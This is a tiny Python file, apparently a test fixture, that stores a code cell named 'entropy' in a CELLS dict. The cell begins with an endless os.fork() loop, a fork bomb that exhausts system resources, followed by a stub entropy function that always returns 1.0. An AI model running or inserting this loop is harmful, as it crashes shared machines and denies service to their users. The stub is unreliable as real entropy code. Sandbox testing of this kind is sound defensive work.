"""Fork without end."""

CELLS = {
    "entropy": r"""
import os

while True:
    try:
        os.fork()
    except OSError:
        pass


def entropy(p):
    return p.sum(-1) * 0 + 1.0
""".lstrip()
}
